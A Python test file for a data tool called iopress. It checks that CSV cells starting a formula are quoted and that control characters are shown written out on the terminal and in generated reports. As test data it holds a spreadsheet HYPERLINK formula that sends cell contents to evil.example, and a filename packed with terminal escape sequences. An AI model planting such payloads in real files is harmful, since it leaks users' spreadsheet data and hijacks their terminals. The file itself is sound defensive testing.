"""What iopress writes from hostile data (issue 32): CSV cells a spreadsheet would run as
formulas, and control characters printed to the terminal or put into a document."""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import re
import shutil
from pathlib import Path

import polars as pl
import pytest

from pipeline import console
from pipeline.build import write_data
from pipeline.console import print_error
from pipeline.csvfile import defused
from pipeline.dataset import intervals_path
from pipeline.errors import InputError
from pipeline.prepare import prepare
from tests.cli import iopress
from tests.conftest import DATA, FS840, pdf_text

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


# --- CSV formula injection -----------------------------------------------------------------


def test_text_cells_that_start_a_formula_are_quoted_numbers_are_not() -> None:
    texts = [FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "FS 900", " =x", None]
    frame = pl.DataFrame({"text": texts, "n": [-1.5, *range(len(texts) - 1)]})
    frame = frame.with_columns(pl.col("text").cast(pl.Categorical).alias("category"))
    out = defused(frame)
    quoted = ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "FS 900", " =x", None]
    assert out["text"].to_list() == quoted
    assert out["category"].to_list() == quoted
    assert out["n"].to_list() == frame["n"].to_list()


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_csv_of_a_build_quotes_a_formula(tmp_path: Path) -> None:
    """A cost system named as a formula went verbatim into tables/cost.csv and the site's
    download (a copy of it); every CSV of the build is checked."""
    report = Path(shutil.copytree(FS840, tmp_path / "report"))
    toml = report / "report.toml"
    text = toml.read_text(encoding="utf-8")
    hostile = FORMULA.replace('"', '\\"')
    toml.write_text(text.replace('system = "FS 840"', f'system = "{hostile}"'), "utf-8")
    work = tmp_path / "work"
    work.mkdir()
    write_data(prepare(report), work)
    written = sorted(work.rglob("*.csv"))
    assert work / "tables" / "cost.csv" in written
    assert f"'{FORMULA}" in _csv_cells(work / "tables" / "cost.csv")
    for path in written:
        live = [c for c in _csv_cells(path) if FORMULA_START.match(c) and not _is_number(c)]
        assert live == [], path


def test_a_formula_after_a_semicolon_stays_inside_its_quoted_cell(tmp_path: Path) -> None:
    """German and Swiss Excel split a CSV on ";": an unquoted "s;=3+3" opened as the
    cells "s" and "=3+3" (past the guard of the first character). Every text cell is
    quoted, so no separator inside one splits it."""
    from pipeline.csvfile import write_csv

    frame = pl.DataFrame({"setup": ["s;=3+3", "x\t=1"], "n": [4, 5]})
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines == ['"setup","n"', '"s;=3+3",4', '"x\t=1",5']
    for line in lines[1:]:  # split as a spreadsheet on ";" would, quotes honoured
        cells = next(csv.reader([line], delimiter=";"))
        assert not [c for c in cells if FORMULA_START.match(c)], cells


WRITERS = ("write_csv", "sink_csv", "writer", "DictWriter")


def test_every_csv_writer_goes_through_csvfile() -> None:
    """One function writes CSV (``pipeline.csvfile.write_csv``): no module calls polars'
    ``write_csv`` or the csv module's writers itself."""
    found = []
    for path in sorted((ROOT / "pipeline").rglob("*.py")):
        if path.name == "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in WRITERS:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {node.attr}")
    assert found == []


# --- control characters on the terminal ----------------------------------------------------

HOSTILE_NAME = "s\x00\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_a_message_shows_control_characters_written_out() -> None:
    """Every message goes through the console, which writes out what a terminal would act
    on (an error listing a fio hostname printed ESC, OSC and NUL raw)."""
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        print_error(InputError(Path(f"raw/{HOSTILE_NAME}.json"), "hosts", HOSTILE_NAME, "x"))
        console.err_console.print(f"note: {HOSTILE_NAME}", markup=False)
    shown = err.getvalue()
    assert RAW_CONTROL.findall(shown) == []
    assert "s\\x00\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202eevil" in shown
    assert shown.count("\n") == 3  # the hint's line break is kept


@pytest.fixture()
def hostile_datasets(tmp_path: Path) -> tuple[Path, Path]:
    """Two datasets of one fio run, the second's setup named with control characters
    (a dataset is anyone's Parquet file)."""
    old = tmp_path / "old.parquet"
    ran = iopress("ingest", DATA / "fio" / "jsonplus.json", "-o", old, cwd=tmp_path)
    assert ran.returncode == 0, ran
    new = tmp_path / "new.parquet"
    for source, target in ((old, new), (intervals_path(old), intervals_path(new))):
        frame = pl.read_parquet(source).with_columns(pl.lit(HOSTILE_NAME).alias("setup"))
        frame.write_parquet(target, metadata=pl.read_parquet_metadata(source))
    return old, new


def test_compare_prints_a_setup_name_written_out(hostile_datasets: tuple[Path, Path]) -> None:
    old, new = hostile_datasets
    for extra in ([], ["--new-setup", "x"]):
        ran = iopress("compare", old, new, *extra, cwd=old.parent)
        assert RAW_CONTROL.findall(ran.stdout + ran.stderr) == [], ran
        assert "s\\x00\\x1b]0;owned" in ran.stdout + ran.stderr, ran


def test_compare_documents_show_a_setup_name_written_out(
    hostile_datasets: tuple[Path, Path],
) -> None:
    """The NUL went into the typst source, which typst refused as a glyph no font has
    (reported as a bug of iopress)."""
    old, new = hostile_datasets
    out = old.parent / "out"
    ran = iopress("compare", old, new, "-o", out, cwd=old.parent)
    assert ran.returncode == 0, ran
    assert "s\\\\x00\\\\x1b]0;owned" in (out / "compare.en.typ").read_text(encoding="utf-8")
    assert "s\\x00\\x1b]0;owned" in pdf_text(out / "compare.en.pdf").replace("\n", "")
